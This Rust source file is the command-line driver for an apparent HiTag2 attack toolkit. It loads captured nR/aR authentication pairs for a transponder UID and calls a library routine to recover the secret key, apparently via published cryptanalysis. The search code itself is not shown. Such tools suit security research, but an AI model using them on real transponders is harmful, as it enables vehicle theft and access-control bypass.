// src/bin/partial_key_attack.rs
//
// Attack 3. Needs a file of captured nR/aR pairs for one UID; around
// 136 good pairs make recovery certain.

use std::path::PathBuf;
use std::process;

use clap::{App, Arg};

use hitag2_attack_toolkit::attacks::partial_key::{self, PartialKeyOptions};
use hitag2_attack_toolkit::error::Error;
use hitag2_attack_toolkit::nonces::{self, MAX_TRACES_PARTIAL_KEY};
use hitag2_attack_toolkit::utils;

fn parse_number(what: &'static str, v: &str) -> Result<u64, Error> {
    let parsed = if let Some(hexpart) = v.strip_prefix("0x").or_else(|| v.strip_prefix("0X")) {
        u64::from_str_radix(hexpart, 16)
    } else {
        v.parse()
    };
    parsed.map_err(|_| Error::usage(what, v.to_string()))
}

fn run() -> Result<i32, Error> {
    let matches = App::new("partial_key_attack")
        .about("Recovers a HiTag2 key from many nR/aR pairs via the filter indifference property")
        .arg(Arg::new("UID").help("Transponder UID, 8 hex chars").required(true).index(1))
        .arg(
            Arg::new("NONCEFILE")
                .help("File of '<nR> <aR>' lines")
                .required(true)
                .index(2),
        )
        .arg(
            Arg::new("threads")
                .short('j')
                .long("threads")
                .value_name("N")
                .takes_value(true),
        )
        .arg(
            Arg::new("klower-start")
                .short('k')
                .long("klower-start")
                .value_name("K")
                .help("First klower guess to try")
                .takes_value(true),
        )
        .arg(
            Arg::new("klower-count")
                .short('K')
                .long("klower-count")
                .value_name("N")
                .help("Number of klower guesses to scan")
                .takes_value(true),
        )
        .arg(Arg::new("verbose").short('V').long("verbose"))
        .try_get_matches()
        .map_err(|e| Error::usage("arguments", e.to_string()))?;

    utils::init_logging(matches.is_present("verbose")).ok();

    let uid = utils::parse_hex32_rev("UID", matches.value_of("UID").unwrap_or_default())?;
    let path = PathBuf::from(matches.value_of("NONCEFILE").unwrap_or_default());
    let traces = nonces::load_traces(&path, MAX_TRACES_PARTIAL_KEY)?;
    println!("Loaded {} nR/aR pairs", traces.len());

    let mut opts = PartialKeyOptions::default();
    if let Some(v) = matches.value_of("threads") {
        opts.threads = v
            .parse()
            .map_err(|_| Error::usage("threads", v.to_string()))?;
    }
    if let Some(v) = matches.value_of("klower-start") {
        opts.klower_start = parse_number("klower-start", v)? & 0xffff;
    }
    if let Some(v) = matches.value_of("klower-count") {
        opts.klower_count = parse_number("klower-count", v)?;
    }
    opts.klower_count = opts.klower_count.min((1 << 16) - opts.klower_start);

    match partial_key::search(uid, &traces, &opts)? {
        Some(key) => {
            println!("\nSuccess - key = {}", utils::format_key(key));
            Ok(0)
        }
        None => {
            println!("Did not find key :(");
            Ok(1)
        }
    }
}

fn main() {
    match run() {
        Ok(code) => process::exit(code),
        Err(e) => {
            eprintln!("Error: {}", e);
            process::exit(e.exit_code());
        }
    }
}
